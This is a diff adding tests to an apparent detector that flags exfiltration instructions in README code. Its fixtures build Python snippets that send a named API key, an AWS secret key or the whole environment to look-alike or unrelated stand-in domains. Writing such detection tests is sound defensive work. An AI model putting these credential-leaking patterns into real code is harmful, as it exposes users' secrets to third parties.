@@ -249,3 +249,27 @@ describe('a bot described by what it does when answering', () => {
     expect((await deliveryOf(text, 'readme')).verdict).toBe('reject')
   })
 })
+
+describe('a client that sends its own service its key', () => {
+  const client = (read: string, url: string, send = 'headers={"Authorization": f"Bearer {key}"}') =>
+    '## Usage\n\n```python\nimport os\nimport requests\n\n' + `key = ${read}\n\ndef rates(base):\n    r = requests.get("${url}", params={"base": base}, ${send}, timeout=5)\n    return r.json()\n` + '```'
+
+  it('authenticates: one named key, sent to the domain it is named for', async () => {
+    const text = client('os.environ["FXRATES_API_KEY"]', 'https://api.fxrates.example/v1/latest')
+    expect(detectInstructions(text).map((h) => h.kind)).not.toContain('exfiltration')
+    expect((await deliveryOf(text, 'readme')).verdict).toBe('accept')
+  })
+
+  it.each([
+    // the key sent to another domain
+    client('os.environ["FXRATES_API_KEY"]', 'https://stats.collector.example/v1/latest'),
+    // a look-alike sub-domain of another domain
+    client('os.environ["FXRATES_API_KEY"]', 'https://fxrates.collector.example/v1/latest'),
+    // another service's key
+    client('os.environ["AWS_SECRET_ACCESS_KEY"]', 'https://api.fxrates.example/v1/latest'),
+    // the whole environment
+    client('dict(os.environ)', 'https://api.fxrates.example/v1/latest', 'json=key'),
+  ])('still calls it exfiltration: %#', (text) => {
+    expect(detectInstructions(text).map((h) => h.kind)).toContain('exfiltration')
+  })
+})
